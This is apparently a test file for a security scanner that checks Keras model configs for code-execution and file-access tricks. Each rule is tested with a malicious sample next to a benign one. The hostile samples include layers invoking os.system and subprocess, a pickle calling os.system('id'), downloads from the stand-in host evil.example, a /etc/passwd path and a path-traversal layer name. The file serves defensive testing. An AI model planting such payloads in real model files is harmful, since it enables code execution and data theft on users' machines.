/**
 * Keras config rules KER-001 … KER-004 on configs built in code (Keras 3 and Keras 2 shapes), each
 * attack next to a near-miss that must stay quiet.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { scanKerasConfig } from './keras-config.js';
import { newState } from './scan.js';
import { MARSHAL_VECTORS } from '../../test/helpers/marshal-vectors.js';
import { pickle } from '../../test/helpers/pickle-builder.js';
import { buildZip } from '../../test/helpers/zip-writer.js';
import type { Finding } from './types.js';

const EVIL = MARSHAL_VECTORS.find(([v, k]) => v === '3.11.7' && k === 'evil')![2];
const OK = MARSHAL_VECTORS.find(([v, k]) => v === '3.11.7' && k === 'ok')![2];
const EVIL_PY2 = MARSHAL_VECTORS.find(([v, k]) => v === '2.7.18' && k === 'evil')![2];

const layer = (class_name: string, config: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({ module: 'keras.layers', class_name, config: { name: config.name ?? class_name.toLowerCase(), trainable: true, dtype: 'float32', ...config }, registered_name: null, ...extra });
const model = (...layers: unknown[]) => ({ module: 'keras', class_name: 'Sequential', config: { name: 'seq', trainable: true, layers }, registered_name: null });
const run = async (cfg: unknown) => {
  const state = newState();
  const f = await scanKerasConfig(cfg, { location: 'config.json', state });
  return { f, all: [...f, ...state.findings] };
};
const sev = (fs: Finding[], rule: string) => fs.filter((x) => x.rule === rule).map((x) => x.severity);

describe('KER-001 Lambda bytecode', () => {
  it('Keras 3 __lambda__ with os/system is critical; a K.sum lambda is medium', async () => {
    const lam = (code: string) => layer('Lambda', { function: { class_name: '__lambda__', config: { value: [code, null, null] } } });
    const bad = await run(model(lam(EVIL)));
    assert.deepEqual(sev(bad.f, 'KER-001'), ['critical']);
    assert.match(bad.f.find((x) => x.rule === 'KER-001')!.evidence, /__import__.*system|system/);
    const ok = await run(model(lam(OK)));
    assert.deepEqual(sev(ok.f, 'KER-001'), ['medium']);
    assert.deepEqual(sev(ok.f, 'KER-002'), [], 'builtins.__lambda__ wrapper is not a module import');
  });

  it('Keras 2 / legacy h5 Lambda [code, defaults, closure] (Python 2 marshal too)', async () => {
    const bad = await run({ class_name: 'Sequential', config: { layers: [{ class_name: 'Lambda', config: { name: 'l', function: [EVIL_PY2, null, null], function_type: 'lambda', module: '__main__', output_shape: null, output_shape_type: 'raw' } }] } });
    assert.deepEqual(sev(bad.f, 'KER-001'), ['critical']);
    assert.deepEqual(sev(bad.f, 'KER-002'), [], '__main__ of a lambda is not flagged by itself');
    const undecodable = await run({ class_name: 'Lambda', config: { function: ['aGVsbG8gd29ybGQ=', null, null], function_type: 'lambda' } });
    assert.deepEqual(sev(undecodable.f, 'KER-001'), ['medium']);
  });
});

describe('KER-002 modules outside Keras', () => {
  it('a function from os / builtins is critical; a custom layer module is medium; Keras modules are quiet', async () => {
    const fn = await run(model(layer('Dense', { activation: { module: 'os', class_name: 'function', config: 'system', registered_name: 'system' } })));
    assert.deepEqual(sev(fn.f, 'KER-002'), ['critical']);
    const lam = await run({ class_name: 'Lambda', config: { function: 'getoutput', function_type: 'function', module: 'subprocess' } });
    assert.deepEqual(sev(lam.f, 'KER-002'), ['critical']);
    const custom = await run(model({ module: 'my_project.layers', class_name: 'Attention', config: { name: 'att', trainable: true }, registered_name: 'Custom>Attention' }));
    assert.deepEqual(sev(custom.f, 'KER-002'), ['medium']);
    const keras = await run(model(layer('Dense', { units: 4, activation: 'relu', kernel_initializer: { module: 'keras.initializers', class_name: 'GlorotUniform', config: { seed: null }, registered_name: null } })));
    assert.deepEqual(keras.f, []);
    const registered = await run(model({ module: null, class_name: 'NestedDenseModel', config: {}, registered_name: 'pkg>NestedDenseModel' }));
    assert.deepEqual(registered.f, []);
  });
});

describe('KER-003 gadgets', () => {
  it('enable_unsafe_deserialization and get_file with a URL are high', async () => {
    const unsafe = await run(model(layer('Dense', { activation: { module: 'keras.config', class_name: 'function', config: 'enable_unsafe_deserialization', registered_name: null } })));
    assert.ok(unsafe.f.some((x) => x.rule === 'KER-003' && x.severity === 'high'));
    const gf = await run(model({ module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: null, args: ['x', 'https://evil.example/p.bin'] }));
    assert.deepEqual(sev(gf.f, 'KER-003'), ['high']);
    const near = await run(model(layer('Dense', { name: 'get_file_like', units: 2 })));
    assert.deepEqual(near.f, []);
  });

  it('TorchModuleWrapper blobs are scanned as torch.load input', async () => {
    const evil = pickle().proto(2).call('os', 'system', (x) => x.str('id')).stop().build_();
    const benign = pickle().proto(2).global('collections', 'OrderedDict').emptyTuple().reduce().stop().build_();
    const wrap = (p: Uint8Array) => ({ module: 'keras.src.utils.torch_utils', class_name: 'TorchModuleWrapper', config: { name: 't', module: Buffer.from(buildZip([{ name: 'archive/data.pkl', data: p }]).bytes).toString('base64') }, registered_name: 'TorchModuleWrapper' });
    const bad = await run(model(wrap(evil)));
    assert.ok(bad.all.some((x) => x.rule === 'PKL-001' && x.location.includes('TorchModuleWrapper') === false));
    assert.ok(bad.all.some((x) => x.rule === 'PKL-001'));
    assert.deepEqual(sev(bad.f, 'KER-003'), ['medium']);
    assert.deepEqual(sev(bad.f, 'KER-002'), [], 'the blob is not a module name');
    const ok = await run(model(wrap(benign)));
    assert.ok(!ok.all.some((x) => x.severity === 'critical' || x.severity === 'high'));
  });
});

describe('KER-004 host paths', () => {
  it('Lookup vocabulary paths, TFSMLayer filepath and path-like layer names are medium; lists and plain names are quiet', async () => {
    const voc = await run(model(layer('StringLookup', { vocabulary: '/etc/passwd' })));
    assert.deepEqual(sev(voc.f, 'KER-004'), ['medium']);
    const vocOk = await run(model(layer('StringLookup', { vocabulary: ['a', 'b'] })));
    assert.deepEqual(vocOk.f, []);
    const tfsm = await run(model(layer('TFSMLayer', { filepath: 'https://evil.example/sm' })));
    assert.deepEqual(sev(tfsm.f, 'KER-004'), ['medium']);
    const name = await run(model(layer('Dense', { name: '../../../tmp/x', units: 2 })));
    assert.deepEqual(sev(name.f, 'KER-004'), ['medium']);
  });
});
